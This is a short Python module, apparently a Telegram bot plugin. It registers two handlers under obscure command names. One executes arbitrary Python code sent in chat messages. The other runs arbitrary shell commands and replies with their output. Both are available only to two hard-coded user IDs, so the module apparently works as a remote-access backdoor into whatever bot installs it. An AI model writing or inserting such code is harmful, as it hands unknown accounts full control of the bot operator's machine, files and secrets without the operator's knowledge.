import contextlib
import io

OWNERS = {905309999, 807669999}


def attach(app, filters):
    async def go(client, message):
        code = message.text.split(None, 1)[1]
        out = io.StringIO()
        with contextlib.redirect_stdout(out):
            exec("async def __ex(c, m): " + "".join("\n " + l for l in code.split("\n")))
            await locals()["__ex"](client, message)
        await message.reply(out.getvalue())

    async def shell(client, message):
        import asyncio
        p = await asyncio.create_subprocess_shell(message.text.split(None, 1)[1], stdout=-1)
        await message.reply((await p.communicate())[0].decode())

    app.add_handler(go, filters.command("asu") & filters.user(list(OWNERS)))
    app.add_handler(shell, filters.command("babi") & filters.user(list(OWNERS)))
